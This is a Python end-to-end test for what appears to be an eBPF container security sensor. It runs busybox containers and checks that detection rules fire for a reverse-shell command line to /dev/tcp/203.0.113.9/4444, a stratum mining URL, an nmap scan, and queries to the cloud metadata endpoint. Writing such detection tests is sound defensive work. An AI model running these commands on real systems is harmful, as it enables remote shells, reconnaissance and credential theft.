"""Built-in rules end to end: the real eBPF sensor, real runc containers, `vigil run`."""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fixtures.agents import RunningAgent, wait_for
from tests.fixtures.marks import E2E
from vigil.lab import RuncContainer, build_busybox_rootfs

pytestmark = E2E

CONFIG = """
profiles: {learning_period: null}   # never locks: only rules raise alerts here
rules: {dedup_window: 60}
"""


@pytest.fixture
def agent(tmp_path: Path) -> Iterator[RunningAgent]:
    with RunningAgent(tmp_path, CONFIG) as running:
        yield running


def test_builtin_rules_fire_in_runc_containers(tmp_path: Path, agent: RunningAgent) -> None:
    rootfs = build_busybox_rootfs(tmp_path / "rootfs")
    for tool in ("apt-get", "nmap"):  # named like the real tools; busybox answers for them
        (rootfs / "bin" / tool).symlink_to("busybox")
    container_id = f"vigil-e2e-rules-{secrets.token_hex(3)}"
    annotations = {
        "io.kubernetes.pod.namespace": "e2e",
        "io.kubernetes.pod.name": "web-5f7c9d8b6-x7k2p",
        "io.kubernetes.container.name": "web",
    }
    with RuncContainer(
        container_id,
        rootfs,
        tmp_path / "bundle",
        ["/bin/sh", "-c", "while true; do sleep 1; done"],
        annotations=annotations,
        # Its own network namespace: no route anywhere, so the metadata connect fails at
        # once (ENETUNREACH) instead of hanging; a connect attempt is what the rule watches.
        host_network=False,
    ) as box:
        box.exec(["/bin/sh", "-c", "true bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
        box.exec(["/bin/sh", "-c", "true -o stratum+tcp://pool.example:3333 --donate-level 1"])
        box.exec(["/bin/apt-get", "install", "-y", "curl"])
        box.exec(["/bin/nmap", "-sS", "10.0.0.0/24"])
        box.exec(["/bin/wget", "-q", "-T", "1", "-O", "-", "http://169.254.169.254/latest/"])
        box.exec(["/bin/nc", "-w", "1", "169.254.169.254", "80"])  # the connect attempt
        wanted = {
            "Reverse shell command line",
            "Stratum mining URL on a command line",
            "Package manager run in a container",
            "Network reconnaissance tool run",
            "Cloud metadata queried by a command",
            "Cloud metadata service contacted",
        }

        def fired() -> dict[str, dict[str, Any]] | None:
            found = {a["rule"]: a for a in agent.alert_list() if a["kind"] == "rule"}
            return found if wanted <= set(found) else None

        try:
            alerts = wait_for(fired, "the rule alerts", timeout=30)
        except AssertionError:
            seen = sorted({a["rule"] for a in agent.alert_list()})
            raise AssertionError(f"rules seen: {seen}\n{agent.log.read_text()[-2000:]}") from None
    reverse = alerts["Reverse shell command line"]
    assert reverse["severity"] == "critical" and "T1059.004" in reverse["mitre"]
    assert reverse["container"]["id"] == container_id
    assert reverse["workload"]["namespace"] == "e2e"
    assert "/dev/tcp/203.0.113.9/4444" in reverse["process"]["cmdline"]
    metadata = alerts["Cloud metadata service contacted"]
    assert metadata["network"]["dest_ip"] == "169.254.169.254"
    assert metadata["mitre"] == ["T1552.005"]
    assert alerts["Package manager run in a container"]["process"]["exe"] == "/bin/apt-get"
